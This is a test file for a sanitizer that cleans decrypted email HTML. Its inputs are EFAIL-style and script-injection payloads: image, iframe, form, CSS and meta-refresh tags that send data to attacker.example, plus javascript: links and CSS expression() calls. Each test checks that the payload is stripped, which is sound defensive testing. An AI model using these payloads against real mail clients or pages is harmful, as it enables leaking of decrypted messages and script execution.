// @vitest-environment happy-dom
/**
 * The decrypt frame's sanitizer against EFAIL-style and ordinary tricks: nothing in a decrypted
 * message may load from the network or run.
 */
import { describe, expect, test } from 'vitest';
import { buildMessageDocument, cleanCss, sanitizeHtml } from './sanitize-html';

function parse(html: string): Document {
  return new DOMParser().parseFromString(html, 'text/html');
}

describe('sanitizing decrypted HTML', () => {
  test('the EFAIL direct exfiltration image loses its remote source', () => {
    const html = '<p>Jethro,</p><img src="http://attacker.example/leak?gate-code-4711" alt="x">';
    const document = parse(sanitizeHtml(html));
    expect(document.querySelector('img')?.hasAttribute('src')).toBe(false);
    expect(sanitizeHtml(html)).not.toContain('attacker.example');
  });

  test('scripts, event handlers, frames, forms, plugins, media and base/link/meta are removed', () => {
    const html = `<script>steal()</script><p onclick="steal()" onmouseover="steal()">hi</p>
      <iframe src="https://attacker.example"></iframe><form action="https://attacker.example"><input name=a></form>
      <object data="https://attacker.example/x.swf"></object><embed src="https://attacker.example/x">
      <video poster="https://attacker.example/p.png"><source src="https://attacker.example/v.mp4"></video>
      <link rel="stylesheet" href="https://attacker.example/s.css"><meta http-equiv="refresh" content="0;url=https://attacker.example">
      <base href="https://attacker.example/"><svg><image href="https://attacker.example/i.png"/></svg>`;
    const clean = sanitizeHtml(html);
    expect(clean).not.toMatch(/attacker\.example/);
    expect(clean).not.toMatch(/<script|onclick|onmouseover|<iframe|<form|<object|<embed|<video|<link|<meta http|<base|<svg/i);
    expect(parse(clean).querySelector('p')?.textContent).toBe('hi');
  });

  test('remote CSS in style attributes and style sheets is neutralised, data: images kept', () => {
    const dataImage = 'data:image/png;base64,iVBORw0KGgo=';
    const html = `<style>@import url("https://attacker.example/a.css"); body { background: url(https://attacker.example/b.png) } @font-face { src: url('https://attacker.example/f.woff') }</style>
      <div style="background-image: url('https://attacker.example/c.png'); color: red">x</div><img src="${dataImage}">`;
    const clean = sanitizeHtml(html);
    expect(clean).not.toContain('attacker.example');
    expect(clean).toContain('color: red');
    expect(parse(clean).querySelector('img')?.getAttribute('src')).toBe(dataImage);
  });

  test('srcset, background attributes and non-image data: URLs are dropped', () => {
    const clean = sanitizeHtml(
      '<img srcset="https://attacker.example/1x.png 1x"><table background="https://attacker.example/t.png"></table><img src="data:text/html;base64,PHNjcmlwdD4=">',
    );
    expect(clean).not.toContain('attacker.example');
    expect(clean).not.toContain('data:text/html');
  });

  test('links stay followable by a click, open in a new tab without referrer; javascript: links lose their target', () => {
    const document = parse(sanitizeHtml('<a href="https://jedco.example/orders">orders</a><a href="javascript:steal()">x</a>'));
    const [good, bad] = [...document.querySelectorAll('a')];
    expect(good.getAttribute('href')).toBe('https://jedco.example/orders');
    expect(good.getAttribute('rel')).toBe('noopener noreferrer');
    expect(good.getAttribute('target')).toBe('_blank');
    expect(bad.hasAttribute('href')).toBe(false);
  });

  test('the srcdoc document carries its own no-network policy', () => {
    const document = buildMessageDocument(sanitizeHtml('<p>hello</p>'));
    expect(document).toContain(`Content-Security-Policy" content="default-src 'none'; img-src data:; style-src 'unsafe-inline'"`);
  });

  test('CSS expression() and image-set() are disabled', () => {
    expect(cleanCss('width: expression(alert(1)); background: image-set("https://a.example/x.png" 1x)')).not.toMatch(/expression\(|image-set\(/);
  });
});
